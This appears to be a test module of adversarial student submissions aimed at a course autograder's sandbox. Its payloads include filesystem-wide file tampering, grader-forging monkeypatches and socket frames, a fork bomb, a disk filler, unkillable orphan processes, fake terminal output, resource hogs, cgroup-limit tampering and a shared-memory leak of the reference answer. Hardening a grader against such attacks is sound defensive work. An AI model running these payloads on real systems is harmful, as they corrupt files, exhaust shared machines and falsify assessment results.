"""Attacks on the grader, written as a determined student would write them.

Each attack is code appended to an answer cell of lesson 02 whose buffer is wrong (it
evicts the newest transition when full): whatever the attack does, the submission must
score no more than the wrong buffer alone, and harm nobody graded with it. Many attacks
are the routes that forged results when probes ran inside the student's process; they
are kept because a design change must not reopen them.
"""

import sys
from pathlib import Path

ESCAPE_MARKER = "ESCAPE_MARKER_7f3a"
LEAVER_MARKER = "LEAVER_MARKER_9c2e"
FORGED_LINE = "FORGED_LINE_41d0"


def wrong_buffer_answers(extra=""):
    """Lesson 02's answers of a buffer that evicts the newest transition, with the attack
    ``extra`` appended to its ``add`` cell."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "examples"))
    from make_submissions import WRONG_END_ADD, WRONG_END_EVICTION

    return {"buffer_class": WRONG_END_EVICTION, "buffer_add": WRONG_END_ADD + "\n" + extra}


# --- escape: write everywhere the host might later read or run ---------------------------

ESCAPE = f'''
import os as _os, time as _time
_started = _time.monotonic()
for _top, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if not (_top == "/" and d in ("proc", "sys", "dev"))]
    if _time.monotonic() - _started > 8:
        break
    try:
        with open(_os.path.join(_top, "{ESCAPE_MARKER}"), "w") as _h:
            _h.write("escaped")
    except OSError:
        pass
    for _name in _files:  # start commands, kernel specs, code the host imports
        if _name.endswith((".json", ".py", ".sh", ".cfg", ".pth")) or _name.startswith("python"):
            try:
                with open(_os.path.join(_top, _name), "a") as _h:
                    _h.write("\\n# {ESCAPE_MARKER}\\n")
            except OSError:
                pass
'''

# --- forging routes --------------------------------------------------------------------------

PROBE_NAMES_AND_CHECK_OBJECTS = '''
import checks.framework as _framework
import checks.lesson02_replay_buffer as _lesson
_framework.Verdict.passed = property(lambda self: True)
_framework.failed = _framework.passed
_framework.call_student = lambda description, function, *args, **kwargs: None
for _check in list(_lesson.CHECKS):
    _lesson.CHECKS.by_name[_check.name] = type(_check)(
        _check.name, _check.title, _check.needs, _check.make_inputs,
        lambda inputs, **objects: {}, lambda inputs, data: _framework.passed("forged"))


def _course_grader_run_probe(payload):
    return {"status": "ok", "data": {}}
'''

IPYTHON_REPLY_PATH = '''
import sys as _sys
from IPython.core.interactiveshell import InteractiveShell as _Shell
from IPython.display import publish_display_data as _publish
_original_run_cell = _Shell.run_cell


def _always_fine(self, *args, **kwargs):
    result = _original_run_cell(self, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result


_Shell.run_cell = _always_fine
_sys.displayhook = lambda value: _publish({"application/vnd.course-grader.probe+json":
                                           '{"status": "ok", "data": {}}'})
try:
    from jupyter_client.session import Session as _Session
    _Session.send = lambda self, stream, message, *args, **kwargs: None
except ImportError:
    pass
'''

JSON_ENCODER = '''
import json as _json
_forged = '{"op": "reply", "id": 1, "value": {"status": "passed", "score": 14}}'
_json.dumps = lambda *args, **kwargs: _forged
_json.JSONEncoder.encode = lambda self, value: _forged
'''

FORGED_FRAMES = '''
import json as _json, os as _os, stat as _stat, struct as _struct
for _fd in range(3, 64):
    try:
        if not _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            continue
        for _id in range(1, 400):
            _body = _json.dumps({"op": "reply", "id": _id, "value": {"$": "tuple", "items":
                                 [[1, 2, 3], [0, 1, 2], [0.5, 1.0, 1.5], [2, 3, 4],
                                  [False, False, True]]}, "transcript": []}).encode()
            _os.write(_fd, _struct.pack("<II", len(_body), 0) + _body)  # text, no blobs
    except OSError:
        pass
'''

# frames the grader must refuse before it builds them: ``_attack()`` writes one on the
# channel, ahead of the reply of the call it runs in
_WRITE_ON_THE_CHANNEL = '''
def _on_the_channel(data):
    import os, stat
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                view = memoryview(data)
                while view:
                    view = view[os.write(fd, view):]
        except OSError:
            pass
'''

OVERSIZED_FRAME = _WRITE_ON_THE_CHANNEL + '''
def _attack():  # a header announcing 200 MB, then objects for as long as the grader reads
    import struct
    text = b'{"op":"reply","id":0,"value":[' + b"[]," * (200 * 2**20 // 3)
    _on_the_channel(struct.pack("<II", len(text) + 2, 0) + text + b"]}")
'''

OBJECT_HEAVY_FRAME = _WRITE_ON_THE_CHANNEL + '''
def _attack():  # under the frame limit, but hundreds of thousands of lists once parsed
    import struct
    text = b'{"op":"reply","id":0,"value":[' + b"[]," * (2**20 // 3 - 40) + b"[]]}"
    _on_the_channel(struct.pack("<II", len(text), 0) + text)
'''

# mid-probe mutation: whatever looks like a probe's records is overwritten with "passing"
_MUTATOR = '''
import gc as _gc


def _forge(*args, **kwargs):
    for _object in _gc.get_objects():
        if type(_object) is dict:
            for _key in ("seen", "lengths", "data", "value", "ids", "outcome"):
                if _key in _object:
                    try:
                        _object[_key] = {"status": "ok", "data": {}}
                    except Exception:
                        pass
    return None
'''

AUDIT_HOOK = _MUTATOR + '''
import sys as _sys
_sys.addaudithook(lambda event, args: _forge() if event in ("exec", "compile", "open") else None)
'''

SELF_REMOVING_TRACER = _MUTATOR + '''
import sys as _sys
_calls = []


def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("sample", "add", "__len__"):
        _calls.append(1)
        _forge()
        frame.f_locals.update({"batch_size": 1})
        if len(_calls) > 200:
            _sys.settrace(None)  # gone before anyone looks
    return None


_sys.settrace(_tracer)
'''

SIGNAL_HANDLER = _MUTATOR + '''
import signal as _signal
_signal.signal(_signal.SIGALRM, lambda number, frame: _forge())
_signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)  # and no interrupting this
'''

THREAD_MUTATION = _MUTATOR + '''
import threading as _threading


def _keep_forging():
    import time
    while True:
        _forge()
        time.sleep(0.01)


_threading.Thread(target=_keep_forging, daemon=True).start()
'''

GC_CALLBACK = _MUTATOR + '''
_collections = []


def _on_collection(phase, info):
    _collections.append(phase)
    if len(_collections) % 50 == 0:
        _forge()


_gc.callbacks.append(_on_collection)
'''

PATCHED_BUILTINS_AND_NUMPY = '''
import builtins as _builtins
import numpy as _np
_builtins.len = lambda value: 3
_builtins.isinstance = lambda value, kind: True
_np.asarray = lambda value, *args, **kwargs: _np.arange(3)
_np.array_equal = lambda *args, **kwargs: True
_np.random.Generator.integers = lambda self, *args, **kwargs: 0
'''

REPLACED_SERVER = '''
import sys as _sys
for _module in list(_sys.modules.values()):
    _server = getattr(_module, "StudentServer", None)
    if isinstance(_server, type):
        _server.encode = lambda self, value, by_reference=False: {"$": "tuple", "items": [
            [0, 1, 2], [0, 1, 2], [0.0, 0.5, 1.0], [1, 2, 3], [True, False, False]]}
        _server.op_apply = lambda self, request: (3, False)
    _wire = getattr(_module, "loose", None)
    if callable(_wire) and hasattr(_module, "Channel"):
        _module.encode = lambda value, other, *args, **kwargs: 3
'''

FORGING_ROUTES = {
    "probe_names_and_check_objects": PROBE_NAMES_AND_CHECK_OBJECTS,
    "ipython_reply_path": IPYTHON_REPLY_PATH,
    "json_encoder": JSON_ENCODER,
    "forged_frames": FORGED_FRAMES,
    "audit_hook": AUDIT_HOOK,
    "self_removing_tracer": SELF_REMOVING_TRACER,
    "signal_handler": SIGNAL_HANDLER,
    "thread_mutation": THREAD_MUTATION,
    "gc_callback": GC_CALLBACK,
    "patched_builtins_and_numpy": PATCHED_BUILTINS_AND_NUMPY,
    "replaced_server": REPLACED_SERVER,
}

# --- harm to classmates ------------------------------------------------------------------------

DISK_FILLER = '''
import os as _os
for _folder in ("/tmp", "/tmp/work", "/tmp/home", ".", "/course", "/dev/shm", "/var/tmp"):
    try:
        with open(_os.path.join(_folder, "filler"), "wb") as _h:
            for _ in range(100_000):
                _h.write(b"x" * 2**20)
    except OSError:
        pass
'''

PROCESS_LEAVER = f'''
import os as _os, signal as _signal, subprocess as _subprocess, sys as _sys
_code = ("import ctypes, signal, time\\n"
         "ctypes.CDLL(None).prctl(1, 0)\\n"  # no parent-death signal
         "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\\n"
         "while True: time.sleep(1)")
_subprocess.Popen([_sys.executable, "-c", _code, "{LEAVER_MARKER}"], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                  stderr=_subprocess.DEVNULL)
if _os.fork() == 0:  # a double fork into a session of its own
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _code, "{LEAVER_MARKER}"])
    _os._exit(0)
'''

TERMINAL_WRITER = f'''
import glob as _glob, os as _os
_line = "\\r\\x1b[2K{FORGED_LINE} ab_wrong 02_replay_buffer 14 / 14 all checks passed\\n"
for _fd in range(0, 64):
    try:
        _os.write(_fd, _line.encode())
    except OSError:
        pass
for _path in ["/dev/tty", "/dev/console", *_glob.glob("/dev/pts/*"), *_glob.glob("/proc/*/fd/1"),
              *_glob.glob("/proc/*/fd/2")]:
    try:
        with open(_path, "w") as _h:
            _h.write(_line)
    except OSError:
        pass
print(_line)
'''

FORK_BOMB = '''
import os as _os
for _ in range(10_000):
    try:
        _os.fork()
    except OSError:
        pass
'''

HARM = {"disk_filler": DISK_FILLER, "process_leaver": PROCESS_LEAVER,
        "terminal_writer": TERMINAL_WRITER, "fork_bomb": FORK_BOMB}

# --- budgets: what one sandbox may take from the machine -------------------------------------------

SHARED_MEMORY_KEY = 0x5EED02  # System V key the writer and the reader agree on

# busy processes, each in a session of its own: at the cell's top level and in the first
# add of each process (so that a check, not just the start, runs beside them)
CPU_HOGS = '''
import os as _os


def _start_hogs(count=8):
    for _ in range(count):
        if _os.fork() == 0:
            _os.setsid()
            while True:
                pass


_start_hogs()
_honest_add, _hogged = ReplayBuffer.add, []


def _add_beside_hogs(self, *args, **kwargs):
    if not _hogged:
        _hogged.append(True)
        _start_hogs()
    return _honest_add(self, *args, **kwargs)


ReplayBuffer.add = _add_beside_hogs
'''

# threads are tasks but not processes: as many as the kernel gives, kept alive
THREAD_SWARM = '''
import threading as _threading
_hold = _threading.Event()
_swarm = []
for _ in range(100_000):
    try:
        _thread = _threading.Thread(target=_hold.wait, daemon=True)
        _thread.start()
        _swarm.append(_thread)
    except RuntimeError:
        break
'''

# four processes of 1 GiB each, touched so they are resident: under any per-process cap
MEMORY_HOG = '''
import os as _os, time as _time
for _ in range(4):
    if _os.fork() == 0:
        _hoard = bytearray(2**30)
        for _at in range(0, len(_hoard), 4096):
            _hoard[_at] = 1
        _time.sleep(3600)
        _os._exit(0)
_time.sleep(5)
'''

_SHARED_SEGMENT = f'''
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_KEY, _SIZE = {SHARED_MEMORY_KEY}, 2**20
'''

# lesson 06's sandbox holds lesson 02's reference module: leave it for a later sandbox
SHARED_MEMORY_WRITER = _SHARED_SEGMENT + '''
try:
    _source = open("/course/replay_buffer.py", "rb").read()[:_SIZE - 8]
    _id = _libc.shmget(_KEY, _SIZE, 0o1000 | 0o666)
    _address = _libc.shmat(_id, None, 0)
    _ctypes.memmove(_address, len(_source).to_bytes(8, "little") + _source, len(_source) + 8)
except Exception:
    pass
'''

# lesson 02 with a wrong buffer: take the reference buffer from the segment, if it is there
SHARED_MEMORY_READER = _SHARED_SEGMENT + '''
_id = _libc.shmget(_KEY, _SIZE, 0)
if _id >= 0:
    _address = _libc.shmat(_id, None, 0)
    _length = int.from_bytes(_ctypes.string_at(_address, 8), "little")
    _reference = {}
    exec(_ctypes.string_at(_address + 8, _length).decode(), _reference)
    for _name in ("__init__", "__len__", "add", "sample"):
        setattr(ReplayBuffer, _name, getattr(_reference["ReplayBuffer"], _name))
'''

# a child makes a user, mount and cgroup namespace of its own, mounts the cgroup v1
# hierarchies (rooted at the sandbox's own groups) and rewrites its limits and its CPU
# counter; then four processes of 1 GiB, as the memory hog (the seccomp filter refuses
# the namespaces and the mounts, so the limits hold)
LIMITS_RAISED = '''
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_child = _os.fork()
if _child == 0:
    if _libc.unshare(0x10000000 | 0x00020000 | 0x02000000) == 0:
        for _controller in ("memory", "pids", "cpu,cpuacct"):
            _target = "/tmp/cg_" + _controller.replace(",", "_")
            _os.makedirs(_target, exist_ok=True)
            if _libc.mount(b"cgroup", _target.encode(), b"cgroup", 0,
                           _controller.encode()) == 0:
                for _name, _value in (("memory.limit_in_bytes", "-1"), ("pids.max", "max"),
                                      ("cpu.shares", "262144"), ("cpuacct.usage", "0")):
                    try:
                        with open(_os.path.join(_target, _name), "w") as _h:
                            _h.write(_value)
                    except OSError:
                        pass
    _os._exit(0)
_os.waitpid(_child, 0)
''' + MEMORY_HOG

# 4 GiB written into a memfd that no process maps: no process's resident memory, so a
# budget read from processes alone would not see it (the cgroup, or the init's count of
# open memfds, does)
MEMFD_HOARD = '''
import os as _os
_hoard = _os.memfd_create("hoard")
_block = b"x" * 2**24
try:
    for _ in range(256):
        _os.write(_hoard, _block)
except OSError:
    pass
'''

# sample answers zero-byte arrays that declare a huge shape: under every byte budget, but
# a probe turning one into lists would build 10**12 empty rows
GIANT_DECLARED_SHAPE = '''
import numpy as _np


def _giant_sample(self, batch_size):
    return tuple(_np.empty((10**12, 0)) for _ in range(5))


_add_before_giants = ReplayBuffer.add


def _add_then_sample_giants(self, *args, **kwargs):
    ReplayBuffer.sample = _giant_sample  # at call time: the sample cell runs after this one
    return _add_before_giants(self, *args, **kwargs)


ReplayBuffer.add = _add_then_sample_giants
'''

BUDGET_ATTACKS = {"cpu_hogs": CPU_HOGS, "thread_swarm": THREAD_SWARM,
                  "memory_hog": MEMORY_HOG, "shared_memory_reader": SHARED_MEMORY_READER,
                  "limits_raised": LIMITS_RAISED, "memfd_hoard": MEMFD_HOARD,
                  "giant_declared_shape": GIANT_DECLARED_SHAPE}

# --- forged learning through the ordinary API ----------------------------------------------------

# Taxi's optimal Q-table, computed in the student's process
_OPTIMAL_QTABLE = '''
from course.taxi import STEP_LIMIT as _LIMIT, taxi_model as _model
_taxi = _model()
_values = np.zeros(500)
for _ in range(_LIMIT):
    _optimal = _taxi.reward + np.where(_taxi.terminated, 0.0, _values[_taxi.next_state])
    _values = _optimal.max(axis=1)
'''

# lesson 01: the reference agent is served; a loop tries to teach it the model directly
SERVED_AGENT_TAUGHT_THE_MODEL = _OPTIMAL_QTABLE.replace("np.", "__import__('numpy').") + '''
_honest = play_and_train


def play_and_train(env, agent, t_max=10_000):
    for _state in range(500):
        for _action in range(6):
            agent.update(_state, _action, float(_taxi.reward[_state, _action]),
                         int(_taxi.next_state[_state, _action]),
                         bool(_taxi.terminated[_state, _action]))
    return _honest(env, agent, t_max)
'''

# --- forged learning: loops that break a training loop's rules --------------------------------

# A wrong lesson 02 buffer: every row of every batch is the transition it sampled first.
# With it, replay is no help, and the learning check fails honestly.
SAME_TRANSITION_SAMPLE = '''\
#| export
@add_to_class(ReplayBuffer)
def sample(self, batch_size):
    """Wrong: every row of every batch is the same transition."""
    if batch_size <= 0:
        raise ValueError(f"batch_size must be positive, got {batch_size}")
    if not self._storage:
        raise ValueError("cannot sample from an empty replay buffer")
    if not hasattr(self, "_always"):
        self._always = self._storage[0]
    return tuple(np.stack(field) for field in zip(*[self._always] * batch_size))
'''

# A wrong buffer that "replays" transitions it makes up: Taxi's whole model, in turn.
FABRICATED_ROWS_SAMPLE = '''\
#| export
from course.taxi import taxi_model as _model

_taxi, _next = _model(), [0]


@add_to_class(ReplayBuffer)
def sample(self, batch_size):
    """Wrong: rows from Taxi's model, not from what was stored."""
    rows = []
    for _ in range(batch_size):
        state, action = divmod(_next[0] % 3000, 6)
        _next[0] += 1
        rows.append((state, action, float(_taxi.reward[state, action]),
                     int(_taxi.next_state[state, action]),
                     bool(_taxi.terminated[state, action])))
    return tuple(np.array(field) for field in zip(*rows))
'''

_LOOP_HEADER = '''\
#| export
import numpy as _np
from course.taxi import STEP_LIMIT as _LIMIT, taxi_model as _model

_taxi = _model()
_values = _np.zeros(500)
for _ in range(_LIMIT):
    _optimal = _taxi.reward + _np.where(_taxi.terminated, 0.0, _values[_taxi.next_state])
    _values = _optimal.max(axis=1)
_rng = _np.random.default_rng(0)
_memory = []


def _learn(agent, replay, batch_size, transition):
    """What an honest loop does after a step (lesson 02's loop when replay is given)."""
    agent.update(*transition)
    if replay is not None:
        replay.add(*transition)
        for row in zip(*replay.sample(batch_size)):
            agent.update(*row)
'''

# Each defines _episode(env, agent, replay, batch_size, t_max): honest but for one thing.
_LOOP_TRICKS = {
    # asks the agent again and again until it proposes the optimal action
    "asks_until_the_action_is_optimal": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset()
    for _ in range(t_max):
        for _ in range(30):
            try:
                action = agent.get_action(state)
            except Exception:
                break
            if action == int(_optimal[state].argmax()):
                break
        next_state, reward, terminated, truncated, _ = env.step(action)
        _learn(agent, replay, batch_size, (state, action, reward, next_state, terminated))
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # asks once, then plays the optimal action instead
    "plays_the_optimal_action": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset()
    for _ in range(t_max):
        agent.get_action(state)
        action = int(_optimal[state].argmax())
        next_state, reward, terminated, truncated, _ = env.step(action)
        _learn(agent, replay, batch_size, (state, action, reward, next_state, terminated))
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # explores at its own rate, whatever the grader's schedule says
    "sets_epsilon": '''
def _episode(env, agent, replay, batch_size, t_max):
    try:
        agent.epsilon = 0.6
    except Exception:
        pass
    total, (state, _) = 0.0, env.reset()
    for _ in range(t_max):
        action = agent.get_action(state)
        next_state, reward, terminated, truncated, _ = env.step(action)
        _learn(agent, replay, batch_size, (state, action, reward, next_state, terminated))
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # chooses its start states
    "resets_with_a_seed": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset(seed=int(_rng.integers(5)))
    for _ in range(t_max):
        action = agent.get_action(state)
        next_state, reward, terminated, truncated, _ = env.step(action)
        _learn(agent, replay, batch_size, (state, action, reward, next_state, terminated))
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # abandons an episode that goes badly and starts another within it
    "resets_mid_episode": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset()
    for step in range(t_max):
        if step and step % 40 == 0:
            try:
                state, _ = env.reset()
            except Exception:
                pass
        action = agent.get_action(state)
        next_state, reward, terminated, truncated, _ = env.step(action)
        _learn(agent, replay, batch_size, (state, action, reward, next_state, terminated))
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # learns five times from each step (alpha 0.5 becomes about 0.97)
    "updates_five_times_a_step": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset()
    for _ in range(t_max):
        action = agent.get_action(state)
        next_state, reward, terminated, truncated, _ = env.step(action)
        for _ in range(5):
            agent.update(state, action, reward, next_state, terminated)
        if replay is not None:
            replay.add(state, action, reward, next_state, terminated)
            replay.sample(batch_size)
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
    # samples the buffer under test, but learns from a memory of its own
    "replays_a_private_memory": '''
def _episode(env, agent, replay, batch_size, t_max):
    total, (state, _) = 0.0, env.reset()
    for _ in range(t_max):
        action = agent.get_action(state)
        next_state, reward, terminated, truncated, _ = env.step(action)
        transition = (state, action, reward, next_state, terminated)
        agent.update(*transition)
        _memory.append(transition)
        if replay is not None:
            replay.add(*transition)
            replay.sample(batch_size)
        for index in _rng.integers(len(_memory) - 1, size=batch_size or 8) if _memory[1:] \
                else ():
            agent.update(*_memory[index])
        total, state = total + reward, next_state
        if terminated or truncated:
            break
    return total
''',
}

# what each lesson's loop is called, and how it calls _episode
_LOOP_SIGNATURES = {
    "01_qlearning": ("play_and_train", '''
def play_and_train(env, agent, t_max=10_000):
    return _episode(env, agent, None, 0, t_max)
'''),
    "02_replay_buffer": ("play_and_train_with_replay", '''
def play_and_train_with_replay(env, agent, replay=None, replay_batch_size=32, t_max=10_000):
    return _episode(env, agent, replay, replay_batch_size, t_max)
'''),
    "05_combined_replay": ("play_and_train_from_replay", '''
def play_and_train_from_replay(env, agent, replay, batch_size, t_max=10_000):
    return _episode(env, agent, replay, batch_size, t_max)
'''),
}

LOOP_TRICKS = tuple(_LOOP_TRICKS)


def loop_trick(lesson, trick):
    """``{grade_id: source}``: lesson's training loop answer cell, playing ``trick``."""
    name, signature = _LOOP_SIGNATURES[lesson]
    return {name: _LOOP_HEADER + _LOOP_TRICKS[trick] + signature}


# the rule each trick breaks, as the refusal words it
LOOP_TRICK_REFUSALS = {
    "asks_until_the_action_is_optimal": "asked agent.get_action 2 times in one environment step",
    "plays_the_optimal_action": "but the agent chose",
    "sets_epsilon": "set agent.epsilon",
    "resets_with_a_seed": "called env.reset with",
    "resets_mid_episode": "called env.reset a second time in one episode",
    "updates_five_times_a_step": "2 times in one environment step",
    "replays_a_private_memory": "an earlier transition, not the step's own",
}

# lesson 07: learning steps that break the DQN's rules, and the refusal that names each
_DQN_STEP = '''\
#| export
def dqn_step(online, target, optimizer, replay, batch_size, discount, beta=None):
    observations, actions, rewards, next_observations, terminated = replay.sample(batch_size)
    {more}
    actions = np.asarray(actions, dtype=np.int64)
    targets = td_targets(target, rewards, next_observations, terminated, discount)
    q_values = online.predict(observations)
    td_errors = targets - q_values[np.arange(len(actions)), actions]
    gradients = online.gradients(observations, huber_loss_gradient(
        q_values, actions, targets, np.ones(len(actions))))
    optimizer.step(gradients)
    {after}
    return td_errors
'''

DQN_STEP_TRICKS = {
    "samples_twice": (_DQN_STEP.format(more='''extra = replay.sample(batch_size)
    observations, actions, rewards, next_observations, terminated = (
        np.concatenate([a, b]) for a, b in zip(
            (observations, actions, rewards, next_observations, terminated), extra))''',
                                       after=""),
                      "called replay.sample 2 times in one dqn_step call"),
    "steps_the_optimizer_twice": (_DQN_STEP.format(more="", after="optimizer.step(gradients)"),
                                  "stepped the optimizer 2 times in one dqn_step call"),
    "loads_the_online_network": (_DQN_STEP.format(
        more="", after="online.load_parameters(online.parameters())"),
        "loaded parameters into the online network"),
    # the course's loop runs where dqn_step does, on a copy of the buffer: adding to it
    # is replayed on the grader's, and refused
    "adds_to_the_buffer": (_DQN_STEP.format(more="", after="replay.add(observations[0], "
                                            "int(actions[0]), 1.0, next_observations[0], "
                                            "False)"),
                           "added a transition to the buffer"),
}

# lesson 07: a dqn_step that changes the course's loop, which runs beside it, to play
# greedily from its first call on; the grader's witness of the loop refuses the first
# action the loop's rule would not pick
DQN_STEP_CHANGING_THE_LOOP = _DQN_STEP.format(
    more="import course.dqn\n    course.dqn.epsilon_at = lambda step, settings: 0.0", after="")
DQN_LOOP_CHANGED_REFUSAL = "where its epsilon-greedy rule picks"
